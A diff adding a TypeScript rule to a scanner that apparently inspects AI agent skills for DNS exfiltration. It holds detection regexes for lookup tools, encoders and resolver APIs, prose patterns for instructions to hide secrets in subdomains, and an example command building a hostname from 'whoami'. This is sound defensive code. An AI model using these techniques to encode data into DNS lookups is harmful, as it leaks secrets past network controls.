@@ -1,0 +1,165 @@
+import type { SkillSource } from '../../core/types'
+import type { RawFinding, RuleModule } from '../types'
+import { excerptAt } from '../excerpt'
+import { codeStatements, markQuoted, unitsOf } from './code-units'
+import { hasSource } from './leak-sources'
+
+/**
+ * DNS exfiltration: a lookup of a hostname built from data (`dig $(whoami).x.example`), which leaves through
+ * the resolver even where outbound HTTP is blocked. A lookup of a name the skill was given (`dig $DOMAIN`,
+ * `_dmarc.{domain}`) is not one: the data goes in the leftmost labels, under a fixed domain.
+ */
+
+// A fixed domain after the built labels: `.x.attacker.example`.
+const TAIL = String.raw`\.[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\b`
+const LOOKUP_SH = String.raw`\b(?:dig|nslookup|host|drill|ping|Resolve-DnsName|getent\s+hosts|resolvectl\s+query`
+  + String.raw`|kdig)\b`
+// Data that names the host it runs on or encodes data for a label.
+const ENCODER = String.raw`\b(?:base64|base32|xxd|hexdump|od\s+-|openssl\s+enc|whoami|hostname|uname|id\s+-un|cat`
+  + String.raw`|env|printenv)\b`
+
+const LOOKUP_RE = new RegExp(LOOKUP_SH, 'i')
+
+/** A shell variable filled from data (a secret, a file, an encoder), or a loop over such data. */
+const DATA_VAR = new RegExp(
+  String.raw`^\s*(?:export\s+|local\s+)?\$?(\w+)\s*=\s*[^\n]*?(?:\$\(|\`)[^\n]*?${ENCODER}`
+  + String.raw`|\|\s*while\s+(?:IFS=\S*\s+)?read\s+(?:-r\s+)?(\w+)|\bfor\s+(\w+)\s+in\s+\$\(`,
+  'i',
+)
+
+function visitDns(skill: SkillSource): RawFinding[] {
+  const out: RawFinding[] = []
+  const statements = codeStatements(unitsOf(skill)).filter(s => (s.lang === 'sh' || s.lang === 'text'))
+  if (!statements.some(st => LOOKUP_RE.test(st.text)))
+    return out
+  const vars = new Set<string>()
+  for (const st of statements) {
+    const m = DATA_VAR.exec(st.text)
+    if (m && (new RegExp(ENCODER, 'i').test(st.text) || hasSource(st.text)))
+      vars.add((m[1] ?? m[2] ?? m[3])!)
+  }
+  if (!vars.size)
+    return out
+  const names = [...vars].join('|')
+  const lookup = new RegExp(String.raw`${LOOKUP_SH}[^\n;|]{0,80}?["']?\$\{?(?:${names})\}?${TAIL}`, 'i')
+  for (const st of statements) {
+    const lines = st.text.split('\n')
+    for (let i = 0; i < lines.length; i++) {
+      const m = lookup.exec(lines[i]!)
+      if (!m)
+        continue
+      out.push({
+        rule: 'dns_exfiltration',
+        path: st.path,
+        line: st.line + i,
+        column: m.index + 1,
+        message: 'looks up a hostname built from data filled elsewhere (DNS exfiltration)',
+        excerpt: excerptAt(lines[i]!, m.index, m[0].length),
+      })
+      break
+    }
+  }
+  return markQuoted(skill, out)
+}
+
+export const dnsExfiltration: RuleModule = {
+  meta: {
+    id: 'dns_exfiltration',
+    kind: 'threat',
+    severity: 'error',
+    cwe: 'CWE-201',
+    description:
+      'DNS exfiltration: lookups (dig, nslookup, host, gethostbyname, dns.resolve) of hostnames whose leftmost '
+      + 'labels are built from data (command output, secrets, encoded files), or prose asking for such lookups.',
+    hint: 'Look up only names the user gave; never encode data into a hostname.',
+  },
+  patterns: [
+    {
+      anchor: 'dig|nslookup|host|drill|ping|Resolve-DnsName|getent|resolvectl|kdig|curl|wget',
+      re: new RegExp(
+        [
+          String.raw`(?:${LOOKUP_SH}[^\n;|]{0,80}?\s["']?|\b(?:curl|wget)\b[^\n;|]{0,80}?\bhttps?:\/\/)`,
+          String.raw`(?:\$\([^)\n]{1,200}\)|\`[^\`\n]{1,200}\`|\$env:\w+)[\w.$:(){}\`-]*${TAIL}`,
+        ].join(''),
+        'i',
+      ),
+      langs: ['sh', 'text', 'prose'],
+      view: 'noComments',
+      message: 'looks up a hostname built from command output or the environment (DNS exfiltration)',
+    },
+    {
+      anchor: 'dig|nslookup|host|drill|ping|Resolve-DnsName|getent|resolvectl|kdig',
+      re: new RegExp(String.raw`${LOOKUP_SH}[^\n;|]{0,80}?\s["']?\$\{?\w+\}?${TAIL}`, 'i'),
+      lineGate: new RegExp(ENCODER, 'i'),
+      langs: ['sh', 'text'],
+      view: 'noComments',
+      message: 'looks up a hostname built from encoded data (DNS exfiltration)',
+    },
+    {
+      anchor: 'gethostbyname|getaddrinfo|resolver',
+      re: new RegExp(
+        [
+          String.raw`(?:\b(?:gethostbyname(?:_ex)?|getaddrinfo)|\bresolver\s*\.\s*(?:resolve|query))\s*\(\s*(?:`,
+          String.raw`f["']\{[^}\n]+\}[^"'\n]*${TAIL}["']`,
+          String.raw`|[\w.()[\]]+\s*\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']`,
+          String.raw`|["'](?:\{\}|%s)\.[A-Za-z0-9-]+[\w.-]*["']\s*(?:\.format|%))`,
+        ].join(''),
+      ),
+      langs: ['py'],
+      view: 'noComments',
+      message: 'resolves a hostname built from data (DNS exfiltration)',
+    },
+    {
+      anchor: 'dns|resolver',
+      re: new RegExp(
+        [
+          String.raw`\b(?:dns(?:\.promises)?|resolver)\s*\.\s*(?:lookup|resolve\w*)\s*\(\s*(?:`,
+          String.raw`\`\$\{[^}\n]+\}[^\`\n]*${TAIL}\`|[\w.()[\]]+\s*\+\s*['"]\.[A-Za-z0-9-]+\.[\w.-]+['"])`,
+        ].join(''),
+      ),
+      langs: ['js'],
+      view: 'noComments',
+      message: 'resolves a hostname built from data (DNS exfiltration)',
+    },
+    {
+      // Go, .NET, Java, Ruby resolvers.
+      anchor: 'LookupHost|LookupIP|LookupTXT|LookupAddr|LookupCNAME|GetHostEntry|GetHostAddresses|getByName|getaddress',
+      re: new RegExp(
+        String.raw`\b(?:Lookup(?:Host|IP|TXT|Addr|CNAME)|GetHost(?:Entry|Addresses)|getByName|getaddress)\s*\(`
+        + String.raw`[^\n]{0,120}?(?:\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']|Sprintf\(\s*"%[sxv]\.[\w.-]+")`,
+      ),
+      langs: ['text', 'js', 'py', 'sh'],
+      view: 'noComments',
+      message: 'resolves a hostname built from data (DNS exfiltration)',
+    },
+    {
+      anchor: 'subdomain|dns|hostname|label|nslookup|dig',
+      re: new RegExp(
+        [
+          String.raw`\b(?:encod|split|chunk|put|plac|embed|prepend|hex-encod|base32|base64|smuggl|leak|send`
+          + String.raw`|exfiltrat)\w*`,
+          String.raw`(?:[^.\n]|\.(?=\S)){0,120}?\b(?:as|into|in|inside|through|via|using)\b(?:[^.\n]|\.(?=\S)){0,40}?`,
+          String.raw`\b(?:sub-?domains?|dns\s+(?:labels?|quer(?:y|ies)|lookups?|requests?|names?)`
+          + String.raw`|hostnames?\s+labels?)\b`,
+        ].join(''),
+        'i',
+      ),
+      langs: ['prose', 'text'],
+      message: 'instructs the agent to move data out through DNS names',
+      accept: m => /token|secret|key|credential|password|env|data|content|output|file|history|conversation/i.test(m[0]),
+    },
+    {
+      anchor: 'nslookup|dig|resolve|look up|lookup|ping',
+      re: new RegExp(
+        String.raw`\b(?:nslookup|dig|resolve|look\s*up|ping)\b[^\n]{0,60}?[\`"']?`
+        + String.raw`(?:<[^>\n]{2,60}>|\{\{?[^}\n]{2,60}\}\}?)${TAIL}`,
+        'i',
+      ),
+      langs: ['prose', 'text'],
+      message: 'instructs the agent to look up a hostname built from data (DNS exfiltration)',
+      accept: m => /token|secret|key|credential|password|env|data|content|output|file|hex|base|encod|user|host/i
+        .test(m[0]),
+    },
+  ],
+  visitSkill: visitDns,
+}
